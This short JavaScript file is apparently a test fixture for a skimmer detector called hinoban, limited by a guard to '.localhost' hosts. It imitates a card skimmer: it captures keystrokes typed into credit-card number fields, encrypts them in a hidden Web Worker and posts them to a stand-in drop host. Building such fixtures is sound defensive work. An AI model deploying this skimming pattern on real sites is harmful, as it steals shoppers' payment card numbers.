/* Harmless imitation, for hinoban's tests: keys one at a time into a worker, which encrypts and sends. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var w = new Worker(URL.createObjectURL(new Blob(["var got = ''; onmessage = function (e) { got += e.data[1]; if (got.length < 16) return;" +
		"crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']).then(function (k) {" +
		"return crypto.subtle.encrypt({name: 'AES-GCM', iv: crypto.getRandomValues(new Uint8Array(12))}, k, new TextEncoder().encode(got)); }).then(function (b) {" +
		"fetch(e.data[0], {method: 'POST', mode: 'no-cors', body: b}); got = ''; }); };"])));
	document.addEventListener('keydown', function (e) {
		if (e.target.autocomplete === 'cc-number' && e.key.length === 1) w.postMessage(['http://drop.localhost:' + location.port + '/c', e.key]);
	});
})();
